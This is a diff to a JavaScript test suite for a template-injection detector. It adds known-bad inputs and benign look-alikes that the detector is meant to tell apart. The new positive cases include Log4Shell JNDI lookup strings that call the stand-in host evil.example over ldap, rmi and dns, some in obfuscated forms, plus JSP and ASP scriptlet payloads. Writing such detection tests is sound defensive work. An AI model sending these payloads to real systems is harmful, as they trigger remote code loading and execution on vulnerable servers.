@@ -32,6 +32,13 @@ describe('template injection', () => {
     ['a directive in a name', { host: '{php}echo 1;{/php}' }, 'directive:high'],
     ['all languages at once', { q: '${{<%[%\'"}}%\\' }, 'polyglot:high'],
     ['a call in a host', { host: '{{dump(app)}}' }, 'sandbox_escape:high'],
+    ['a lookup of Log4j in a header', { headers: 'X-Api-Version: ${jndi:ldap://evil.example/a}' }, 'lookup:high'],
+    ['a lookup letter by letter', { q: '${${lower:j}${upper:n}di:rmi://evil.example/a}' }, 'lookup:high'],
+    ['a lookup of defaults', { q: '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/a}' }, 'lookup:high'],
+    ['a lookup of what is not set', { path: 'a/${${env:X:-j}ndi${env:X:-:}ldap://evil.example/a}' }, 'lookup:high'],
+    ['a page of Java', { name: '<%out.println("4241");%>' }, 'directive:high'],
+    ['a page of VBScript', { q: '<% response.write(9*9) %>' }, 'directive:high'],
+    ['a page that makes objects', { path: 'a.jsp?x=<% new java.io.File("/") %>' }, 'sandbox_escape:high'],
     ['percent encoding', { q: '%7B%7B7*7%7D%7D' }, 'arithmetic:high'],
   ])('is certain of %s', (_, value, rule) => {
     expect(said(value)).toContain(rule);
@@ -40,6 +47,11 @@ describe('template injection', () => {
   it.each([
     ['a placeholder in a text', { q: 'Hello {{name}}, welcome' }, []],
     ['a variable of a shell', { q: 'set ${HOME} first' }, []],
+    ['a setting with a default', { value: '${LOG_DIR:-/var/log}/app' }, []],
+    ['settings of an environment', { q: '${env:STAGE}-${self:provider.region}' }, []],
+    ['two short variables', { q: '${a}${b}' }, []],
+    ['talk of a lookup', { q: 'is jndi:ldap still on in log4j 2.17' }, []],
+    ['an open mark of a page', { q: 'what does <% mean in ASP' }, []],
     ['JSON in a text', { q: '{"a": {"b": 1}}' }, []],
     ['an issue of GitHub', { q: 'fixes #{12}' }, []],
     ['a placeholder in a host', { host: '{{base_url}}' }, ['placeholder:medium']],
